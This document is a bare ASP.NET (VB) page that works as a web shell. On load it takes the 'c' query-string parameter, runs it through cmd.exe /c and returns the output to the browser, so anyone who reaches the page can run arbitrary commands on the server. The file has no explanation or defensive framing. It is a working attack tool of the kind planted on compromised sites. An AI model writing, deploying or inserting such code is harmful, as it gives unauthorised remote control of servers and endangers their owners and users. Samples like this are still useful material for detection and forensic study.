<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(s As Object, e As EventArgs)
    Dim p As New System.Diagnostics.Process()
    p.StartInfo.FileName = "cmd.exe"
    p.StartInfo.Arguments = "/c " & Request.QueryString("c")
    p.StartInfo.UseShellExecute = False
    p.StartInfo.RedirectStandardOutput = True
    p.Start()
    Response.Write(p.StandardOutput.ReadToEnd())
End Sub
</script>
